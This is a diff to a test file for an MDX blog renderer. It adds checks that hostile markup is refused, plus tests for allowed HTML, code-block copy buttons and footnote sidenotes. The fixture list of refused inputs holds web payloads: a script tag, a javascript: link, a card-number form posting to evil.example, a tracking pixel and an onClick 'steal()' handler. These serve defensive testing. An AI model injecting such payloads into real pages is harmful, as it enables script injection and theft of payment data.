@@ -1,7 +1,7 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
 import { renderToStaticMarkup } from "react-dom/server";
-import { renderMdx } from "./mdx";
+import { renderMdx, renderMdxToStaticHtml } from "./mdx";
 
 const body = [
   "# Not listed",
@@ -47,4 +47,67 @@ test("inline code stays plain inline <code>; fenced blocks are highlighted", asy
 test("an author can still ask for a highlighted inline token", async () => {
   const html = renderToStaticMarkup((await renderMdx("The `const x = 1{:ts}` line.")).content);
   assert.match(html, /<span data-rehype-pretty-code-figure=""><code data-language="ts"/);
+});
+
+// The second line of defence: a body that breaks the content rules never compiles, for the page or a feed.
+const hostile = [
+  "<script>window.x = 1</script>",
+  '<a href="javascript:alert(1)">pay</a>',
+  '<form action="https://evil.example"><input name="pan" /></form>',
+  "![tracker](https://tracker.example/p.gif)",
+  '<span onClick="steal()">x</span>',
+];
+
+for (const source of hostile) {
+  test(`a body with ${source} is refused when compiled for the page and for a feed`, async () => {
+    await assert.rejects(renderMdx(source, "posts/hostile.mdx"), /^posts\/hostile\.mdx:1: /m);
+    await assert.rejects(renderMdxToStaticHtml(source, {}, "the feed entry of /posts/hostile"), /the feed entry/);
+  });
+}
+
+test("the allowed HTML renders as written", async () => {
+  const html = renderToStaticMarkup(
+    (
+      await renderMdx(
+        '<kbd>Ctrl</kbd> <abbr title="Primary account number">PAN</abbr> x<sup>2</sup>\n\n<details open>\n<summary>More</summary>\n\nHidden.\n\n</details>',
+      )
+    ).content,
+  );
+  assert.match(html, /<kbd>Ctrl<\/kbd> <abbr title="Primary account number">PAN<\/abbr> x<sup>2<\/sup>/);
+  assert.match(html, /<details open=""><summary>More<\/summary><p>Hidden.<\/p><\/details>/);
+});
+
+test("a code block carries a hidden Copy button and a status line; inline code and feeds get none", async () => {
+  const source = "Call `capture` first.\n\n```ts\nconst amount = 100;\n```";
+  const html = renderToStaticMarkup((await renderMdx(source)).content);
+  const figure = /<figure data-rehype-pretty-code-figure="">[\s\S]*?<\/figure>/.exec(html)?.[0] ?? "";
+  assert.match(figure, /<button type="button" hidden="" data-copy-code="" data-print-hidden="">Copy<\/button>/);
+  assert.match(
+    figure,
+    /<span role="status" class="sr-only" data-copy-status="" data-print-hidden=""><\/span><\/figure>$/,
+  );
+  assert.equal(html.match(/data-copy-code/g)?.length, 1);
+  assert.doesNotMatch(await renderMdxToStaticHtml(source, {}), /data-copy-code/);
+});
+
+test("footnotes end the post as a numbered list with back-links, and repeat in the margin for wide screens", async () => {
+  const source =
+    "A claim[^std] and another[^two].\n\n[^std]: The [standard](https://example.com/pci), v3.2.\n[^two]: A *second* note.\n";
+  const { content, headings } = await renderMdx(source);
+  const html = renderToStaticMarkup(content);
+  assert.deepEqual(headings.at(-1), { id: "footnote-label", text: "Notes", depth: 2 });
+  assert.match(
+    html,
+    /<li id="user-content-fn-std">\s*<p>The <a href="https:\/\/example.com\/pci"[^>]*>standard<\/a>, v3.2. <a href="#user-content-fnref-std" data-footnote-backref="" aria-label="Back to reference 1"/,
+  );
+  // The margin copy follows its reference, hidden from screen readers, its links out of the tab order.
+  assert.match(
+    html,
+    /id="user-content-fnref-std"[^>]*>1<\/a><\/sup><span class="sidenote" aria-hidden="true" data-print-hidden=""><sup>1<\/sup> The <a href="https:\/\/example.com\/pci"[^>]* tabindex="-1">standard<\/a>, v3.2.<\/span>/,
+  );
+  assert.match(html, /<span class="sidenote"[^>]*><sup>2<\/sup> A <em>second<\/em> note.<\/span>/);
+  assert.equal(html.match(/data-footnote-backref=""/g)?.length, 2, "no back-link is copied into the margin");
+  const feed = await renderMdxToStaticHtml(source, {});
+  assert.match(feed, /<section data-footnotes="true"/);
+  assert.doesNotMatch(feed, /sidenote/);
 });
